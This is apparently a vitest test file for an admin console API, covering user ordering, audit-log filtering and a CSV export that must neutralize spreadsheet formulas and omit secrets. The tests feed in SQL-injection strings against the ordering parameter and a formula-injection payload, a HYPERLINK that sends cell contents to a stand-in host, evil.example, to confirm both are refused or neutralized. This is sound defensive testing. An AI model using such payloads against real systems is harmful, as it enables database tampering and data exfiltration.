/**
 * What the admin console needs beyond the first admin API: users in any order (`?ordering=`),
 * the audit log by username, the list of event types, and the CSV export (formula injection,
 * the row cap, no secrets, and the export itself audited).
 */
import { sql } from 'kysely'
import { describe, expect, it } from 'vitest'
import { AUDIT_EVENT_TYPES } from '../src/audit/audit.events.js'
import type { AdminUser, AuditEventInfo } from '../src/http/api.schemas.js'
import { AUDIT_EXPORT_MAX_ROWS } from '../src/http/audit.routes.js'
import { neutralizeFormula } from '../src/http/csv.js'
import { parseCsv } from './csv-reader.js'
import {
  ON_REDIS,
  ORIGIN,
  PASSWORD,
  authed,
  build,
  createUser,
  login,
  loginOk,
  type Cookies,
  type TestContext,
} from './helpers.js'

const MINUTE = 60_000
const CSV_HEADER = [
  'id',
  'at',
  'type',
  'actor_id',
  'actor_username',
  'target_id',
  'target_username',
  'ip',
  'user_agent',
  'detail',
]

interface Cast {
  ctx: TestContext
  ids: Record<'root' | 'alice' | 'bob', number>
  as: Record<'root' | 'helper' | 'staff' | 'member' | 'alice', Cookies>
}

/**
 * root (superuser), helper (staff in "auditors": audit.view_event), staff (staff, no group),
 * member (in "auditors" but not staff), alice and bob.
 */
async function cast(): Promise<Cast> {
  const ctx = await build()
  const group = await ctx.app.services.groups.create(
    { name: 'auditors', permissions: ['audit.view_event'] },
    {},
  )
  expect(group.ok).toBe(true)
  const root = await createUser(ctx, 'root', { isSuperuser: true })
  await createUser(ctx, 'helper', { isStaff: true, groups: ['auditors'] })
  await createUser(ctx, 'staff', { isStaff: true })
  await createUser(ctx, 'member', { groups: ['auditors'] })
  const alice = await createUser(ctx, 'alice')
  const bob = await createUser(ctx, 'bob')
  return {
    ctx,
    ids: { root: root.id, alice: alice.id, bob: bob.id },
    as: {
      root: await loginOk(ctx, 'root'),
      helper: await loginOk(ctx, 'helper'),
      staff: await loginOk(ctx, 'staff'),
      member: await loginOk(ctx, 'member'),
      alice: await loginOk(ctx, 'alice'),
    },
  }
}

async function auditList(
  ctx: TestContext,
  cookies: Cookies,
  query = '',
): Promise<AuditEventInfo[]> {
  const response = await authed(ctx, cookies, { url: `/api/admin/audit/?pageSize=200${query}` })
  expect(response.statusCode, query).toBe(200)
  return response.json().results
}

/** The cells the export should hold for an event of the list endpoint. */
function expectedCells(event: AuditEventInfo): string[] {
  const text = (value: string | number | null | undefined): string =>
    value === null || value === undefined ? '' : String(value)
  return [
    event.id,
    event.at,
    event.type,
    event.actor?.id,
    event.actor?.username,
    event.target?.id,
    event.target?.username,
    event.ip,
    event.userAgent,
    event.detail ? JSON.stringify(event.detail) : null,
  ].map((value) => (typeof value === 'string' ? neutralizeFormula(value) : text(value)))
}

async function exportCsv(
  ctx: TestContext,
  cookies: Cookies,
  query = '',
): Promise<{ body: string; records: string[][]; headers: Record<string, unknown> }> {
  const response = await authed(ctx, cookies, { url: `/api/admin/audit/export/${query}` })
  expect(response.statusCode, response.body.slice(0, 200)).toBe(200)
  return { body: response.body, records: parseCsv(response.body), headers: response.headers }
}

describe('GET /api/admin/users/?ordering=', () => {
  /**
   * Users with ties on every field, created so that id order differs from username order inside
   * each tie (zed before amy), some never logged in, emails differing in case and punctuation.
   */
  async function people(): Promise<{ ctx: TestContext; root: Cookies }> {
    const ctx = await build()
    await createUser(ctx, 'root', { isSuperuser: true })
    ctx.clock.advance(MINUTE)
    const zed = await createUser(ctx, 'zed')
    const amy = await createUser(ctx, 'amy', { isStaff: true })
    ctx.clock.advance(MINUTE)
    const bob = await createUser(ctx, 'Bob')
    const cat = await createUser(ctx, 'cat')
    ctx.clock.advance(MINUTE)
    const dan = await createUser(ctx, 'dan', { isStaff: true })
    const { users } = ctx.app.services
    const emails: Array<[number, string]> = [
      [zed.id, 'Zed@example.com'],
      [amy.id, 'amy@example.com'],
      [bob.id, 'bob.smith@example.com'],
      [cat.id, 'BOB_SMITH@example.com'],
      [dan.id, 'bobsmith@example.com'],
    ]
    for (const [id, email] of emails) await users.update(id, { email })
    await users.update(cat.id, { isActive: false })
    // Logins at distinct times for some; zed and amy and cat never log in.
    ctx.clock.advance(MINUTE)
    await loginOk(ctx, 'dan')
    ctx.clock.advance(MINUTE)
    await loginOk(ctx, 'Bob')
    ctx.clock.advance(MINUTE)
    const root = await loginOk(ctx, 'root')
    return { ctx, root }
  }

  async function usernames(ctx: TestContext, root: Cookies, query: string): Promise<string[]> {
    const response = await authed(ctx, root, { url: `/api/admin/users/?pageSize=200${query}` })
    expect(response.statusCode, query).toBe(200)
    return response.json().results.map((user: AdminUser) => user.username)
  }

  it('orders by every allowed field both ways, ties by id, never-logged-in users last', async () => {
    const { ctx, root } = await people()
    // Written out by hand from the data above (ids: root, zed, amy, Bob, cat, dan).
    const expected: Record<string, string[]> = {
      username: ['amy', 'Bob', 'cat', 'dan', 'root', 'zed'],
      '-username': ['zed', 'root', 'dan', 'cat', 'Bob', 'amy'],
      // amy, bob.smith, bob_smith, bobsmith, root@, zed: case folded, '.' < '_' < 's'.
      email: ['amy', 'Bob', 'cat', 'dan', 'root', 'zed'],
      '-email': ['zed', 'root', 'dan', 'cat', 'Bob', 'amy'],
      dateJoined: ['root', 'zed', 'amy', 'Bob', 'cat', 'dan'],
      '-dateJoined': ['dan', 'Bob', 'cat', 'zed', 'amy', 'root'],
      lastLogin: ['dan', 'Bob', 'root', 'zed', 'amy', 'cat'],
      '-lastLogin': ['root', 'Bob', 'dan', 'zed', 'amy', 'cat'],
      isActive: ['cat', 'root', 'zed', 'amy', 'Bob', 'dan'],
      '-isActive': ['root', 'zed', 'amy', 'Bob', 'dan', 'cat'],
      isStaff: ['zed', 'Bob', 'cat', 'root', 'amy', 'dan'],
      '-isStaff': ['root', 'amy', 'dan', 'zed', 'Bob', 'cat'],
      isSuperuser: ['zed', 'amy', 'Bob', 'cat', 'dan', 'root'],
      '-isSuperuser': ['root', 'zed', 'amy', 'Bob', 'cat', 'dan'],
    }
    for (const [ordering, names] of Object.entries(expected)) {
      expect(await usernames(ctx, root, `&ordering=${ordering}`), ordering).toEqual(names)
    }
    // The default is by username.
    expect(await usernames(ctx, root, '')).toEqual(expected.username)
  })

  it('pages are stable: the pages of an ordering add up to the whole list', async () => {
    const { ctx, root } = await people()
    for (const ordering of ['isStaff', '-lastLogin', '-isSuperuser']) {
      const whole = await usernames(ctx, root, `&ordering=${ordering}`)
      const paged: string[] = []
      for (let page = 1; page <= 3; page++) {
        const response = await authed(ctx, root, {
          url: `/api/admin/users/?ordering=${ordering}&pageSize=2&page=${page}`,
        })
        expect(response.json().count).toBe(6)
        paged.push(...response.json().results.map((user: AdminUser) => user.username))
      }
      expect(paged, ordering).toEqual(whole)
    }
  })

  it('combines with search', async () => {
    const { ctx, root } = await people()
    expect(await usernames(ctx, root, '&search=bob&ordering=-email')).toEqual(['dan', 'cat', 'Bob'])
  })

  it('refuses any other value with fields.ordering, and never runs it as SQL', async () => {
    const { ctx, root } = await people()
    const bad = [
      'name',
      'Username',
      '--username',
      '+username',
      'username,email',
      ' username',
      '-',
      '',
      'id',
      'password_hash',
      'users.password_hash',
      'username;drop table users',
      "username'); drop table users; --",
      '(select password_hash from users)',
      'last_login',
      'username desc',
    ]
    for (const value of bad) {
      const response = await authed(ctx, root, {
        url: `/api/admin/users/?ordering=${encodeURIComponent(value)}`,
      })
      expect(response.statusCode, value).toBe(400)
      expect(response.json().error.code, value).toBe('invalid_request')
      expect(response.json().error.fields.ordering, value).toBeDefined()
    }
    // Repeating the parameter is no way around the list either.
    const twice = await authed(ctx, root, { url: '/api/admin/users/?ordering=email&ordering=id' })
    expect(twice.statusCode).toBe(400)
    expect(await usernames(ctx, root, '')).toHaveLength(6)
  })
})

describe('GET /api/admin/audit/?username=', () => {
  it("finds events where the name is the actor's or the target's, exactly, any case", async () => {
    const { ctx, ids, as } = await cast()
    ctx.clock.advance(MINUTE)
    await loginOk(ctx, 'bob')
    await login(ctx, 'BOB', 'not-the-password')
    await authed(ctx, as.root, {
      method: 'PATCH',
      url: `/api/admin/users/${ids.bob}/`,
      payload: { isActive: false },
    })
    await authed(ctx, as.root, {
      method: 'PATCH',
      url: `/api/admin/users/${ids.alice}/`,
      payload: { email: 'alice@example.org' },
    })

    const bob = await auditList(ctx, as.root, '&username=bob')
    expect(bob.map((event) => event.type)).toEqual([
      'user_deactivated',
      'login_failed',
      'login_succeeded',
      'user_created',
    ])
    for (const event of bob) {
      const names = [event.actor?.username, event.target?.username].map((n) => n?.toLowerCase())
      expect(names).toContain('bob')
    }
    // Case-insensitive on both sides: the query and the recorded name ("BOB" at the failed login).
    expect((await auditList(ctx, as.root, '&username=BoB')).map((e) => e.id)).toEqual(
      bob.map((event) => event.id),
    )
    // The actor's name counts too: root changed bob and alice, and logged in.
    const byRoot = await auditList(ctx, as.root, '&username=root&type=user_changed')
    expect(byRoot).toHaveLength(1)
    expect(byRoot[0]).toMatchObject({ actor: { username: 'root' }, target: { username: 'alice' } })
    // With the other filters: AND.
    expect(await auditList(ctx, as.root, '&username=bob&type=login_succeeded')).toHaveLength(1)
    const both = await auditList(ctx, as.root, `&username=bob&user=${ids.root}`)
    expect(both.map((event) => event.type)).toEqual(['user_deactivated'])
    const since = new Date(ctx.clock()).toISOString()
    expect(await auditList(ctx, as.root, `&username=bob&until=${since}`)).toHaveLength(1)
    // Exact: no substring, no LIKE wildcard.
    for (const query of ['bo', 'b%25', 'b_b', 'bob%20x']) {
      expect(await auditList(ctx, as.root, `&username=${query}`), query).toEqual([])
    }
    // An empty parameter is no filter, as for type.
    const all = await authed(ctx, as.root, { url: '/api/admin/audit/' })
    const empty = await authed(ctx, as.root, { url: '/api/admin/audit/?username=' })
    expect(empty.json().count).toBe(all.json().count)
  })

  it('still finds a deleted user by the name recorded', async () => {
    const { ctx, as } = await cast()
    const ghost = await createUser(ctx, 'ghost')
    await ctx.db.deleteFrom('users').where('id', '=', ghost.id).execute()
    const events = await auditList(ctx, as.root, '&username=ghost')
    expect(events).toMatchObject([
      { type: 'user_created', target: { id: null, username: 'ghost' }, actor: null },
    ])
  })

  it('refuses a name no user can have', async () => {
    const { ctx, as } = await cast()
    for (const query of ['username=a%00b', `username=${'a'.repeat(151)}`]) {
      const response = await authed(ctx, as.root, { url: `/api/admin/audit/?${query}` })
      expect(response.statusCode, query).toBe(400)
      expect(response.json().error.fields.username, query).toBeDefined()
    }
  })
})

describe('GET /api/admin/audit/types/', () => {
  it('lists every type Sesame writes, sorted, each once', async () => {
    const { ctx, as } = await cast()
    const response = await authed(ctx, as.helper, { url: '/api/admin/audit/types/' })
    expect(response.statusCode).toBe(200)
    const { types } = response.json() as { types: string[] }
    expect(types).toEqual([...new Set(AUDIT_EVENT_TYPES)].sort())
    expect(types).toEqual(expect.arrayContaining(['audit_exported', 'login_failed', 'logout']))
    // Every event this run wrote is one of them.
    const written = (await auditList(ctx, as.root)).map((event) => event.type)
    for (const type of written) expect(types).toContain(type)
  })
})

describe('admin console routes: who may call', () => {
  it('401 anonymous, 403 a user, a non-staff member or staff without audit.view_event', async () => {
    const { ctx, as } = await cast()
    for (const url of [
      '/api/admin/audit/types/',
      '/api/admin/audit/export/',
      '/api/admin/audit/?username=bob',
    ]) {
      const anonymous = await ctx.app.inject({
        url,
        headers: { host: 'localhost', origin: ORIGIN },
      })
      expect(anonymous.statusCode, url).toBe(401)
      expect(anonymous.json().error.code).toBe('not_authenticated')
      for (const who of ['alice', 'member', 'staff'] as const) {
        const denied = await authed(ctx, as[who], { url })
        expect(denied.statusCode, `${url} as ${who}`).toBe(403)
        expect(denied.json().error.code).toBe('permission_denied')
        expect(denied.headers['content-disposition']).toBeUndefined()
      }
      for (const who of ['helper', 'root'] as const) {
        expect((await authed(ctx, as[who], { url })).statusCode, `${url} as ${who}`).toBe(200)
      }
    }
    // Refused exports are not recorded as exports.
    const exports = await auditList(ctx, as.root, '&type=audit_exported')
    expect(exports.map((event) => event.actor?.username).sort()).toEqual(['helper', 'root'])
  })
})

describe('GET /api/admin/audit/export/', () => {
  it('answers CSV with the list endpoint’s events, newest first, as an attachment', async () => {
    const { ctx, ids, as } = await cast()
    await authed(ctx, as.root, {
      method: 'PATCH',
      url: `/api/admin/users/${ids.bob}/`,
      payload: { isActive: false },
    })
    // 2026-01-01T06:15:00.123Z: the file name keeps whole seconds.
    ctx.clock.advance((6 * 60 + 15) * MINUTE + 123)
    await login(ctx, 'alice', PASSWORD, { 'user-agent': 'Mozilla/5.0 (X11, "quoted")' })
    const events = await auditList(ctx, as.root)
    const { records, headers, body } = await exportCsv(ctx, as.root)
    expect(headers['content-type']).toBe('text/csv; charset=utf-8')
    // The export's UTC time in ISO 8601's basic format, whole seconds: 20260101T061500Z.
    const iso = new Date(ctx.clock()).toISOString()
    const stamp = `${iso.slice(0, 19).replace(/[-:]/g, '')}Z`
    expect(stamp).toMatch(/^\d{8}T\d{6}Z$/)
    // Under Redis the test clock starts now, not at 2026-01-01.
    if (!ON_REDIS) expect(stamp).toBe('20260101T061500Z')
    expect(headers['content-disposition']).toBe(`attachment; filename="sesame-audit-${stamp}.csv"`)
    expect(headers['cache-control']).toBe('no-store')
    expect(body.startsWith(`${CSV_HEADER.map((name) => `"${name}"`).join(',')}\r\n`)).toBe(true)
    expect(records[0]).toEqual(CSV_HEADER)
    expect(records.slice(1)).toEqual(events.map(expectedCells))
    // Quoted where RFC 4180 says: the user agent's comma and quotes, the detail's JSON.
    expect(body).toContain(',"Mozilla/5.0 (X11, ""quoted"")",')
    expect(body).toContain('"{""via"":""api"",""changed"":[""isActive""]')

    // The same filters as the list (an export's own event is recorded after it is taken).
    for (const query of [
      `?user=${ids.bob}`,
      '?username=ALICE',
      '?type=login_succeeded',
      `?since=${new Date(ctx.clock()).toISOString()}`,
      `?until=${new Date(ctx.clock()).toISOString()}&type=user_created`,
      '?type=nothing_like_this',
    ]) {
      const listed = await auditList(ctx, as.root, `&${query.slice(1)}`)
      const filtered = await exportCsv(ctx, as.root, query)
      expect(filtered.records.slice(1), query).toEqual(listed.map(expectedCells))
    }
    const bad = await authed(ctx, as.root, { url: '/api/admin/audit/export/?since=yesterday' })
    expect(bad.statusCode).toBe(400)
    expect(bad.json().error.fields.since).toBeDefined()
  })

  it('neutralizes formulas an attacker typed as a username or user agent', async () => {
    const { ctx, as } = await cast()
    const attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    // A name no account has is stored as a digest (issue #13 item 7); the user agent as sent.
    const failed = await login(ctx, attack, 'whatever', { 'user-agent': '@SUM(1)' })
    expect(failed.response.statusCode).toBe(400)
    await createUser(ctx, '+cmd')
    await login(ctx, '+cmd', 'whatever', { 'user-agent': '-2+3' })
    await login(ctx, 'nobody', 'whatever', { 'user-agent': attack })
    const { records, body } = await exportCsv(ctx, as.root)
    for (const record of records) {
      for (const cell of record) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
    }
    const cells = records.flat()
    expect(cells).toContain(`'${attack}`)
    expect(cells).toContain("'@SUM(1)")
    expect(cells).toContain("'+cmd")
    expect(cells).toContain("'-2+3")
    // Nor does any raw field of the file start a formula.
    expect(body).not.toMatch(/(^|,|\r\n)"?[=+\-@]/)
  })

  it('never holds a password, a session id or a CSRF token', async () => {
    const { ctx, as } = await cast()
    const newPassword = 'alice-new-passphrase-42'
    const changed = await authed(ctx, as.alice, {
      method: 'POST',
      url: '/api/password/change/',
      payload: { currentPassword: PASSWORD, newPassword },
    })
    expect(changed.statusCode).toBe(200)
    await login(ctx, 'alice', 'a-wrong-password-1')
    const again = (await login(ctx, 'alice', newPassword)).cookies
    expect(again.sessionid).toBeDefined()
    await authed(ctx, again, { method: 'POST', url: '/api/logout/' })
    const { body, records } = await exportCsv(ctx, as.root)
    const types = records.slice(1).map((record) => record[2])
    expect(types).toEqual(
      expect.arrayContaining(['password_changed', 'login_failed', 'login_succeeded', 'logout']),
    )
    const secrets = [PASSWORD, newPassword, 'a-wrong-password-1']
    for (const cookies of [as.alice, again, as.root]) {
      secrets.push(cookies.sessionid ?? 'missing', cookies.csrftoken ?? 'missing')
    }
    for (const secret of secrets) expect(body).not.toContain(secret)
    expect(body).not.toMatch(/argon2|pbkdf2/)
  })

  it('records each export: the actor, the filters and the row count', async () => {
    const { ctx, ids, as } = await cast()
    const since = new Date(ctx.clock()).toISOString()
    const query = `?user=${ids.alice}&username=alice&type=login_succeeded&since=${since}`
    const { records } = await exportCsv(ctx, as.helper, query)
    expect(records).toHaveLength(2)
    const [recorded, ...others] = await auditList(ctx, as.root, '&type=audit_exported')
    expect(others).toEqual([])
    expect(recorded).toMatchObject({
      actor: { username: 'helper' },
      target: null,
      ip: '127.0.0.1',
      detail: {
        filters: { user: ids.alice, username: 'alice', type: 'login_succeeded', since },
        rows: 1,
      },
    })
    // A second export holds the first one's event, not its own.
    const next = await exportCsv(ctx, as.root, '?type=audit_exported')
    expect(next.records.slice(1).map((record) => record[0])).toEqual([String(recorded?.id)])
    // A HEAD exports nothing, so it records nothing either.
    const head = await authed(ctx, as.root, { method: 'HEAD', url: '/api/admin/audit/export/' })
    expect(head.statusCode).toBe(404)
    expect(await auditList(ctx, as.root, '&type=audit_exported')).toHaveLength(2)
  })

  it(`refuses more than ${AUDIT_EXPORT_MAX_ROWS} events instead of cutting the file short`, async () => {
    const { ctx, as } = await cast()
    // Cheap rows straight into the table, one statement on either database, at 1…cap+1 ms.
    const total = AUDIT_EXPORT_MAX_ROWS + 1
    await sql`
      insert into audit_events (at, event, username)
      with recursive n(i) as (select 1 union all select i + 1 from n where i < ${total})
      select i, 'bulk_test', 'bulk' from n
    `.execute(ctx.db)
    const tooMany = await authed(ctx, as.root, { url: '/api/admin/audit/export/' })
    expect(tooMany.statusCode).toBe(400)
    expect(tooMany.json().error.code).toBe('invalid_request')
    expect(tooMany.json().error.message).toMatch(/narrow the date range/i)
    expect(tooMany.headers['content-disposition']).toBeUndefined()
    const byType = await authed(ctx, as.root, { url: '/api/admin/audit/export/?type=bulk_test' })
    expect(byType.statusCode).toBe(400)
    expect(await auditList(ctx, as.root, '&type=audit_exported')).toEqual([])

    // Exactly the cap is fine, read in batches, newest first, each row once.
    const since = new Date(2).toISOString()
    const response = await authed(ctx, as.root, {
      url: `/api/admin/audit/export/?type=bulk_test&since=${since}`,
    })
    expect(response.statusCode).toBe(200)
    const lines = response.body.split('\r\n')
    expect(lines.at(-1)).toBe('')
    expect(lines).toHaveLength(AUDIT_EXPORT_MAX_ROWS + 2)
    const ats = lines.slice(1, -1).map((line) => Date.parse(line.split(',')[1]?.slice(1, -1) ?? ''))
    expect(ats[0]).toBe(total)
    expect(ats.at(-1)).toBe(2)
    expect(ats.every((at, index) => at === total - index)).toBe(true)
  }, 60_000)
})

describe('OpenAPI', () => {
  it('documents the new routes, the export as text/csv', async () => {
    const ctx = await build()
    const response = await ctx.app.inject({ method: 'GET', url: '/api/openapi.json' })
    expect(response.statusCode).toBe(200)
    const { paths } = response.json()
    expect(paths['/api/admin/audit/types/'].get.responses['200']).toBeDefined()
    const exported = paths['/api/admin/audit/export/'].get
    expect(exported.responses['200'].content['text/csv'].schema).toMatchObject({ type: 'string' })
    expect(exported.parameters.map((p: { name: string }) => p.name).sort()).toEqual([
      'bom',
      'since',
      'type',
      'until',
      'user',
      'username',
    ])
    const users = paths['/api/admin/users/'].get.parameters
    const ordering = users.find((p: { name: string }) => p.name === 'ordering')
    expect(ordering.schema.enum).toContain('-lastLogin')
  })
})
